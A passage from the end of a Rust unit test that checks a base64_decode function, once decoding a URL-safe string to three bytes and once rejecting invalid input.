        assert_eq!(base64_decode("-_-_").unwrap(), vec![0xfb, 0xff, 0xbf]);
        assert!(base64_decode("not base64!").is_none());
    }
}
